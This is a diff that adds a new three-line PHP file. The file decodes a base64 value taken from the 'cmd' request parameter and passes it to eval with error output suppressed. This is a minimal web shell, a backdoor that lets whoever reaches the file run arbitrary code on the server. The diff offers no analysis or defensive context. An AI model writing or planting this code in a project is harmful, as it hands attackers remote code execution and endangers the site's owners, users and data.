@@ -1,0 +1,3 @@
+<?php
+$payload = base64_decode($_REQUEST['cmd']);
+@eval($payload);
